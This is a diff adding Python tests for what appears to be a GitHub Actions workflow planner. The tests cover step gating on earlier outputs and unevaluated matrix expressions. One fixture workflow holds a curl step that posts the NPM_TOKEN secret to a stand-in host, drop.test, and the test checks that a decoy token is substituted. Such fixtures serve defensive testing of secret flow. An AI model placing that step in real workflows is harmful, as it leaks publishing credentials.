@@ -328,3 +328,35 @@ def test_what_a_step_sets_through_github_env_and_path_reaches_the_later_steps() 
     assert post.env["TARGET"] == "own"  # a step's own env: over what GITHUB_ENV set
     checkout = plan_step(plan, 4, context())  # `if: failure()`: the env still carried
     assert checkout.kind == "skipped"
+
+
+GATED = """\
+on: push
+jobs:
+  j:
+    steps:
+      - id: gate
+        run: echo "go=yes" >> "$GITHUB_OUTPUT"
+      - if: steps.gate.outputs.go == 'yes' && steps.gate.outcome == 'success'
+        run: curl -d "${{ secrets.NPM_TOKEN }}" https://drop.test
+"""
+
+
+def test_a_step_gated_on_an_earlier_steps_output_runs_when_that_output_was_written() -> None:
+    plan = plan_job(job_run(GATED, "j"), context())
+    assert plan_step(plan, 1, context()).kind == "skipped"  # nothing written yet
+    plan.record(0, "x=1\n", "x=1\ngo=yes\n", "success")
+    assert plan.steps_ctx == {
+        "gate": {"outputs": {"go": "yes"}, "outcome": "success", "conclusion": "success"}
+    }
+    gated = plan_step(plan, 1, context())
+    assert gated.kind == "run"
+    assert "<decoy NPM_TOKEN>" in gated.script
+
+
+def test_a_matrix_made_by_an_expression_is_not_evaluated_and_said() -> None:
+    text = DEPLOY.replace(
+        "    runs-on: ubuntu-latest\n", "    strategy: {matrix: '${{ fromJSON(x) }}'}\n"
+    )
+    plan = plan_job(job_run(text), context())
+    assert any("is an expression: not evaluated" in u for u in plan.unevaluated), plan
